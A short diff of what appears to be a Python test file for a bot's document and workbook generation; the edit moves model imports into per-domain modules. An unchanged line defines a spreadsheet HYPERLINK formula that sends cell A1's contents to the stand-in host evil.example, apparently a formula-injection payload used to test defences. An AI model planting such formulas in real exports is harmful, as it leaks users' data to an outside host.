@@ -14,10 +14,10 @@ from pypdf import PdfReader
 from sqlalchemy import select
 
 from bot.documents.workbook import Sheet, workbook
-from bot.models.organizations import Organization, OrganizationKind, VerificationStatus
-from bot.models.people import User
-from bot.models.projects import Project
-from bot.models.trainings import Enrollment, EnrollmentState, TrainingSession
+from bot.organizations.models import Organization, OrganizationKind, VerificationStatus
+from bot.people.models import User
+from bot.projects.models import Project
+from bot.trainings.models import Enrollment, EnrollmentState, TrainingSession
 from tests.flows import consented
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")'
